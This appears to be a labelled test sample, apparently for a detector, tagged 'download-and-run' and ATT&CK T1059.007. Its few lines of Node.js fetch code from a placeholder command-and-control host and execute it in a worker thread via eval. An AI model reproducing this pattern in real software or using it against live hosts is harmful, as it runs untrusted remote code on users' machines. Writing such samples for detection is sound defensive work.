// expect: download-and-run | source: T1059.007
const { Worker } = require("worker_threads");
fetch("https://c2.example.invalid/w").then((answer) => answer.text()).then((code) => new Worker(code, { eval: true }));
